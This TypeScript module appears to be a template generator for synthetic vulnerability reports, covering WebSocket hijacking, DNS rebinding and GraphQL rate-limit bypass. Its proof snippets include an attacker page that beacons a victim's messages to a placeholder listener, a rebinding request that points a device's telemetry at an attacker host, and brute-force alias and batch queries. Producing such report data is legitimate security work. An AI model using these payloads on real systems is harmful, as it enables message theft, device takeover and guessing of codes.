import type { VulnerabilityClass } from './vulnerability-class.ts'

const socketHijack: VulnerabilityClass = {
  key: 'socket-hijack',
  type: 'WebSocket',
  cwe: 1385,
  weight: 2,
  surfaces: ['web', 'api'],
  shape: 'click',
  severities: [
    ['High', 5],
    ['Medium', 4],
  ],
  places: [
    { path: '/ws', parameter: 'Origin', detail: 'the chat' },
    { path: '/realtime?v=2', parameter: 'Origin', detail: 'the notifications' },
    { path: '/graphql-ws', parameter: 'Origin', detail: 'the subscriptions' },
  ],
  titles: [
    'Cross-site WebSocket hijacking on wss://«host»«path»',
    'WebSocket «path» does not check the origin, messages of the victim can be read',
    'CSWSH: «detail» of a signed-in «customer» from any page',
    'Any page can listen to «detail» of its visitor (wss://«host»«path»)',
  ],
  summaries: [
    'The handshake of `«path»` trusts the cookie and does not look at `Origin`. A foreign page opens the socket in the name of the visitor and reads along.',
    'wss://«host»«path» can be opened from anywhere. Right after connecting it sends the history of «detail».',
  ],
  steps: [
    [
      'Sign in to «host».',
      'Open the page below from another origin.',
      'Messages appear in the console and at my listener.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Page of the attacker:',
        lang: 'js',
        code: `const socket = new WebSocket('wss://«host»«path»')
socket.onopen = () => socket.send(JSON.stringify({ type: 'history', limit: 50 }))
socket.onmessage = ({ data }) => navigator.sendBeacon('https://«listener»/', data)`,
      },
      {
        say: 'What comes first:',
        lang: 'json',
        code: `{
  "type": "history",
  "user": "«victim»",
  «record»
}`,
      },
    ],
  ],
  impacts: [
    'Reading and writing messages in the name of the victim while a tab is open.',
    'All that goes through the socket is lost to the attacker: «secrets».',
  ],
  fixes: ['Check `Origin` in the handshake, and ask for a token in the first message.'],
  notes: ['Reproduced in Firefox; Chrome blocks it because of the partitioned cookies. Medium to High.'],
}

const dnsRebinding: VulnerabilityClass = {
  key: 'dns-rebinding',
  type: 'Cross-origin policy',
  cwe: 350,
  weight: 1,
  surfaces: ['device', 'code'],
  shape: 'click',
  severities: [
    ['High', 3],
    ['Medium', 5],
  ],
  places: [
    {
      method: 'POST',
      path: '/api/config',
      parameter: 'Host',
      detail: 'the local web interface',
      on: ['device'],
    },
    {
      method: 'POST',
      path: '/rpc',
      parameter: 'Host',
      detail: 'the local port of the command line tool',
      on: ['code'],
    },
  ],
  titles: [
    'DNS rebinding reaches «detail» of «target» from any website',
    '«target»: «detail» does not check the Host header (DNS rebinding)',
    'A website can reconfigure «target» in the local network',
    'Missing check of Host: «detail» of «target» answers to strangers',
  ],
  summaries: [
    '«Detail» answers to every host name. A website can change where its own name points to and then talk to «target» in the visitor’s network.',
    '«Detail» of «target» trusts whoever reaches it and does not look at `Host`. With DNS rebinding a website reaches it.',
  ],
  steps: [
    [
      'Visit the page at `rebind.«attacker»` from the same network.',
      'Wait about a minute until the name points to the private address.',
      'The page reads the configuration and shows it.',
    ],
  ],
  proofs: [
    [
      {
        say: 'The request as the device sees it:',
        lang: 'http',
        code: `«method» «path» HTTP/1.1
Host: rebind.«attacker»
Origin: http://rebind.«attacker»
Content-Type: application/json

{"telemetry":"https://«listener»"}

HTTP/1.1 200 OK
Server: «server»

{"saved":true}`,
      },
    ],
  ],
  impacts: [
    'A visit to a website changes settings at home or on a developer’s machine, which then reports to the attacker.',
  ],
  fixes: ['Refuse requests whose `Host` is not an own address or name.'],
  notes: [
    'Took 70 s in Firefox with a TTL of 1. Works with the router in the lab, the one with rebinding protection stops it.',
  ],
}

const graphql: VulnerabilityClass = {
  key: 'graphql',
  type: 'GraphQL',
  cwe: 770,
  weight: 4,
  surfaces: ['api', 'web', 'mobile'],
  shape: 'write',
  severities: [
    ['High', 2],
    ['Medium', 5],
    ['Low', 3],
  ],
  places: [
    {
      method: 'POST',
      path: '/graphql',
      parameter: 'alias',
      detail: 'aliases',
      excerpt: `mutation {
  a0: verifyCode(user: "«me»", code: "000000") { ok }
  a1: verifyCode(user: "«me»", code: "000001") { ok }
  a2: verifyCode(user: "«me»", code: "000002") { ok }
}
# 1,000 lines like these; answer after 2.4 s:
# {"data":{"a0":{"ok":false},"a1":{"ok":false},"a2":{"ok":true},…}}   X-RateLimit-Remaining: 59`,
    },
    {
      method: 'POST',
      path: '/graphql',
      parameter: 'batch',
      detail: 'arrays of operations',
      excerpt: `[
  {"query":"mutation { redeem(code: \\"AAAA-0000\\") { ok } }"},
  {"query":"mutation { redeem(code: \\"AAAA-0001\\") { ok } }"},
  {"query":"mutation { redeem(code: \\"AAAA-0002\\") { ok } }"}
]
# 500 in one request, counted as one: X-RateLimit-Remaining: 59`,
    },
    {
      method: 'POST',
      path: '«api»/graphql',
      parameter: '__schema',
      detail: 'introspection',
      titles: [
        'Introspection shows `deleteAny«TypeName»` and it works for a «customer»',
        'GraphQL schema of «host» gives away internal mutations without checks',
      ],
      summaries: [
        'The schema can be read by everybody. It names `deleteAny«TypeName»`, "internal, do not use in clients", which does not check rights.',
        'Through introspection I found mutations that the app never sends. At least one of them works with the session of a «customer».',
      ],
      steps: [
        [
          'Send the usual introspection query to `«path»`.',
          'Look for mutations that the app does not use.',
          'Call `deleteAny«TypeName»` with a «one» of your own second account: it is gone.',
        ],
      ],
      excerpt: `{ __schema { mutationType { fields { name description } } } }

{"mutationType":{"fields":[
  {"name":"update«TypeName»"},
  {"name":"deleteAny«TypeName»","description":"internal, do not use in clients"},
  {"name":"impersonate","description":"«staffRole» only"}
]}}`,
    },
  ],
  titles: [
    'GraphQL «detail» bypass the rate limit: hundreds of tries in one request',
    'Brute force through GraphQL «detail» at «host»«path»',
    'Rate limit counts requests, GraphQL «detail» hide the tries',
    'GraphQL: unlimited «detail» (`«path»`)',
  ],
  summaries: [
    'The limit of `«path»` counts requests, not operations. With «detail» one request tries hundreds of values.',
    '`«path»` takes any number of operations at once («detail»). One-time codes and vouchers can be guessed that way.',
  ],
  steps: [
    [
      'Send what is shown below with your own account as the user.',
      'Each part has its own answer. One of them is `true`.',
      'The limit header went down by one.',
    ],
  ],
  proofs: [[{ say: 'Shortened:', lang: 'graphql', code: '«excerpt»' }]],
  impacts: [
    'One-time codes, coupons and PINs can be guessed in seconds, and nothing of it shows in the number of requests.',
    'The limits that protect accounts and money have no effect on this endpoint.',
  ],
  fixes: ['Limit by the cost of the query, and the number of aliases and of operations in a batch.'],
  notes: ['Reproduced on sandbox. Depth limit exists, a limit for the number of operations does not.'],
}

export const realtimeClasses: readonly VulnerabilityClass[] = [socketHijack, dnsRebinding, graphql]
